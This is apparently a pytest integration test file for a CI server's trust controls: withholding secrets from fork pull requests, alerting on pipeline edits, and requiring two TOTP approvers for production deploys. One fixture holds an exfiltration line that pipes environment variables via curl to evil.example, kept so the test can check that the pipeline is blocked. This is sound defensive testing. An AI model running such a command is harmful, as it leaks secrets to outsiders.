"""Issue 14's "done when", end to end on a real ``bastion serve`` with real git repositories
(bare, over ``file://``) and webhook deliveries signed like GitHub's:

(a) a fork pull request's run gets no secret and no identity token: the job asking for them
    is refused alone and the run fails, while every gate still runs and reports; a push to
    the protected branch gets both (the job reports what it saw; the secret is masked in
    its log);
(b) a pull request editing ``.bastion/pipeline.yml`` runs the base branch's pipeline and the
    monitor raises an alert;
(c) the production deploy needs two distinct approvers with TOTP, is refused to the person
    who triggered it and to a commit author, a TOTP code approves once only, and the approval
    page shows the SBOM diff against what production runs.
"""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from bastion.audit import AuditLog
from bastion.server import Role
from tests.server.browser import live_server
from tests.server.conftest import PASSWORD
from tests.server.trust_scenario import AUDIENCE, DEPLOY_KEY, Scene, set_up

pytestmark = pytest.mark.integration

SITE_PIPELINE = """\
name: site
on: [push, pull_request]
jobs:
  build:
    steps: [{run: echo built}]
  test:
    needs: [build]
    steps: [{run: echo tested}]
"""
# A gate beside a job asking for the secret and a token, and a job that needs that one.
GATED_PIPELINE = f"""\
name: gated
on: [push, pull_request]
jobs:
  scan: {{uses: bastion/secrets}}
  build:
    steps: [{{run: echo built}}]
  whoami:
    secrets: [DEPLOY_KEY]
    id-token: {{audience: {AUDIENCE}}}
    steps: [{{run: 'echo "secret=$DEPLOY_KEY"'}}]
  ship:
    needs: [whoami]
    steps: [{{run: echo shipped}}]
"""
EVIL_PIPELINE = """\
name: site
on: [push, pull_request]
jobs:
  exfiltrate:
    steps: [{run: env | curl -d @- https://evil.example}]
"""


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    root = tmp_path_factory.mktemp("trust-e2e")
    (root / "serve").mkdir()
    with live_server(root / "serve") as server:
        made = set_up(server, root)
        try:
            yield made
        finally:
            made.close()


def _audit(scene: Scene, action: str, run_id: int) -> list[dict[str, Any]]:
    """Details of the server's audit events ``action`` about run ``run_id``."""
    found = []
    for entry in AuditLog(scene.db, witness=None).entries():
        event = entry.event
        if event.action != action:
            continue
        details = dict(event.details)
        if event.subject.startswith(f"run/{run_id}/") or str(details.get("run")) == str(run_id):
            found.append(details)
    return found


def test_a_fork_pull_request_gets_no_secret_and_no_token(scene: Scene, tmp_path: Path) -> None:
    gated = scene.repository("gated", tmp_path / "gated", {".bastion/pipeline.yml": GATED_PIPELINE})
    head = gated.pull_request(11, "mallory", **{"src/app.py": "print('pr')\n"})
    run_id = scene.pull("gated", 11, head, "mallory", fork=True)
    run = scene.wait(run_id)
    assert run["trust"] == "untrusted"
    jobs = {job["name"]: job for job in run["jobs"]}
    # Every gate ran and its result is recorded; the job asking for secrets alone is refused.
    assert (jobs["scan"]["status"], jobs["build"]["status"]) == ("passed", "passed"), run
    assert jobs["scan"]["result"], run
    assert jobs["whoami"]["status"] == "blocked", run
    assert jobs["whoami"]["reason"].startswith(
        "untrusted run: secrets withheld (DEPLOY_KEY, id-token)"
    )
    assert jobs["whoami"]["started_at"] is None  # never reached a sandbox
    assert jobs["ship"]["status"] == "skipped", run
    assert run["status"] == "blocked", run  # the run fails: it cannot merge
    assert DEPLOY_KEY not in json.dumps(run)
    # In the audit log too: the gate's decision, and the refusal with its reason.
    assert [d["passed"] for d in _audit(scene, "gate.decided", run_id)] == [True]
    ended = {d["state"]: d["reason"] for d in _audit(scene, "job.finished", run_id)}
    assert ended["blocked"] == jobs["whoami"]["reason"]
    assert _audit(scene, "secret.released", run_id) == []
    assert _audit(scene, "identity.issued", run_id) == []


def test_a_protected_push_gets_the_secret_masked_and_a_token(scene: Scene) -> None:
    run_id = scene.push("app", pusher="alice")
    scene.pending_request(run_id)  # build and whoami are over once deploy waits
    run = scene.run(run_id)
    assert run["trust"] == "trusted"
    jobs = {job["name"]: job["status"] for job in run["jobs"]}
    assert (jobs["build"], jobs["whoami"]) == ("passed", "passed"), run
    log = scene.job_log(run_id, "whoami")
    assert DEPLOY_KEY not in log
    assert "secret=***" in log
    assert hashlib.sha256(DEPLOY_KEY.encode()).hexdigest() in log  # it had the real value
    claims = json.loads(log.split("claims=", 1)[1].splitlines()[0])
    assert (claims["repo"], claims["ref"], claims["trust"]) == ("app", "refs/heads/main", "trusted")
    assert claims["aud"] == AUDIENCE
    assert claims["exp"] - claims["iat"] <= 600
    [issued] = _audit(scene, "identity.issued", run_id)
    assert issued["jti"] == claims["jti"]
    assert [d["job"] for d in _audit(scene, "secret.released", run_id)] == ["whoami"]
    scene.deploys.append(run_id)


def test_a_pull_request_editing_the_pipeline_runs_the_base_and_alerts(
    scene: Scene, tmp_path: Path
) -> None:
    site = scene.repository("site", tmp_path / "site", {".bastion/pipeline.yml": SITE_PIPELINE})
    scene.person("paula", Role.DEVELOPER)
    head = site.pull_request(12, "paula", **{".bastion/pipeline.yml": EVIL_PIPELINE})
    run_id = scene.pull("site", 12, head, "paula", fork=False)
    run = scene.wait(run_id)
    assert run["trust"] == "untrusted"
    assert run["status"] == "passed", run
    assert sorted(job["name"] for job in run["jobs"]) == ["build", "test"]
    log = scene.job_log(run_id, "build")
    assert "built" in log
    evaluate = [Path(sys.executable).with_name("bastion"), "alerts", "evaluate"]
    done = subprocess.run(
        [*map(str, evaluate), "--db", scene.server.database_url, "--json"],
        env=scene.server.env,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    alerts = scene.api("GET", "/api/alerts")["alerts"]
    titles = [(a["rule"], a["title"]) for a in alerts]
    assert ("pipeline-changed", "CI file .bastion/pipeline.yml modified in site") in titles


def test_production_needs_two_distinct_approvers_with_fresh_totp_codes(scene: Scene) -> None:
    run_id = scene.waiting_deploy()
    request = scene.pending_request(run_id)
    rid = request["id"]
    assert request["triggered_by"] == "alice"
    assert "dev" in request["shipped"]["people"]
    refused = scene.vote("alice", rid, scene.people["alice"].code())
    assert refused.status_code == 403
    assert "you triggered this run" in refused.text
    author = scene.vote("dev", rid, scene.people["dev"].code())
    assert author.status_code == 403
    assert "you wrote or committed a change since the last deploy" in author.text
    code = scene.people["bob"].code()
    first = scene.vote("bob", rid, code)
    assert first.status_code == 200, first.text
    assert first.json()["state"] == "pending"
    again = scene.vote("bob", rid, code)
    assert again.status_code == 403
    assert "already used" in again.text
    assert scene.api("GET", f"/api/approvals/{rid}")["state"] == "pending"
    assert scene.run(run_id)["status"] not in {"passed", "failed"}
    second = scene.vote("carol", rid, scene.people["carol"].code())
    assert second.status_code == 200, second.text
    assert second.json()["state"] == "approved"
    run = scene.wait(run_id)
    assert run["status"] == "passed", run
    assert "shipped" in scene.job_log(run_id, "deploy")
    scene.deployed = True


def test_the_next_deploy_shows_the_sbom_diff_on_the_approval_page(scene: Scene) -> None:
    scene.released()  # production runs app 1.0
    forge = scene.repos["app"]
    forge.commit("release 1.1", "dev", **{"release.txt": "app 1.1 flask requests\n"})
    run_id = scene.push("app", pusher="alice")
    rid = scene.pending_request(run_id)["id"]
    client = httpx.Client(base_url=scene.server.base_url, follow_redirects=True)
    with client:
        page = client.get("/login")
        csrf = page.text.split('name="csrf_token" value="')[1].split('"')[0]
        form = {"name": "erin", "password": PASSWORD, "csrf_token": csrf}
        signed = client.post("/login", data=form)
        mfa = signed.text.split('name="csrf_token" value="')[1].split('"')[0]
        client.post("/mfa", data={"code": scene.people["erin"].code(), "csrf_token": mfa})
        shown = client.get(f"/approvals/{rid}")
    assert shown.status_code == 200, shown.text
    html = shown.text
    assert "<code>app</code> 1.0 → 1.1" in html  # upgraded
    assert "<code>requests</code>" in html.split("New dependencies")[1]  # added
    assert "<code>six</code>" in html.split("Removed")[1]  # removed
    assert "sha256:" in html
    for who in ("erin", "frank"):
        vote = scene.vote(who, rid, scene.people[who].code(30))
        assert vote.status_code == 200, vote.text
    assert scene.wait(run_id)["status"] == "passed"
